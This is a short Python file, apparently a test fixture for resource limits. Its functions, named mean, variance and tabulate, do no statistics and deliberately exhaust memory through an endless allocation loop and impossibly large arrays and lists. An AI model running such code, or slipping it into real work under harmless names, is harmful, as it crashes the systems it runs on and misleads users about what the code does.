"""Takes memory until there is none, in small pieces and large ones."""

import numpy as np


def mean(values):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 20))


def variance(values):
    return np.ones(1 << 38)


def tabulate(function, values):
    return [0] * (1 << 60)
